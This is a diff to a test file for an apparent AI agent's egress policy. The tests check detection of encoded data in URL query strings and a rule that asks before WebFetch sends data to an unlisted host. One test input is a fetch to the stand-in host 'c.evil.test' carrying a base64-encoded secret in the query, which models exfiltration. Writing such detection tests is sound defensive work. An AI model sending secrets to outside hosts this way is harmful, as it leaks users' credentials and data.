@@ -43,7 +43,15 @@ describe('cloud metadata endpoints', () => {
 
 describe('where data rides', () => {
   it('query, credentials in the URL, and body or headers beside it', () => {
-    expect(outboundChannels({ url: 'https://x.test/a?b=c' })[0]?.carries).toEqual(['query']);
+    expect(
+      outboundChannels({ url: 'https://x.test/a?b=Zm9vYmFyYmF6cXV4MTIz' })[0]?.carries,
+    ).toEqual(['query']);
+    // A short value or plain words are a page or a search, not room for an encoded value.
+    expect(outboundChannels({ url: 'https://x.test/a?page=2&sort=asc' })[0]?.carries).toEqual([]);
+    expect(
+      outboundChannels({ url: 'https://x.test/search?q=how+to+configure+vitest+timeouts' })[0]
+        ?.carries,
+    ).toEqual([]);
     expect(outboundChannels({ url: 'https://u:p@x.test/' })[0]?.carries).toEqual(['userinfo']);
     expect(
       outboundChannels({ url: 'https://x.test/', body: 'x', headers: { a: 'b' } })[0]?.carries,
@@ -79,7 +87,12 @@ describe('one host policy at every door of the built-in pack', () => {
 
   it('asks before a fetch sends data to an unlisted host, and lets docs and listed hosts through', async () => {
     expect(
-      (await decide('WebFetch', { url: 'https://c.evil.test/?k=abcdef', prompt: 'x' })).rule,
+      (
+        await decide('WebFetch', {
+          url: 'https://c.evil.test/?k=c2VjcmV0LXZhbHVlLTEyMw',
+          prompt: 'x',
+        })
+      ).rule,
     ).toBe('ca.fetch-data-offlist');
     expect(
       (await decide('WebFetch', { url: 'https://pypi.org/search/?q=httpx', prompt: 'x' })).verdict,
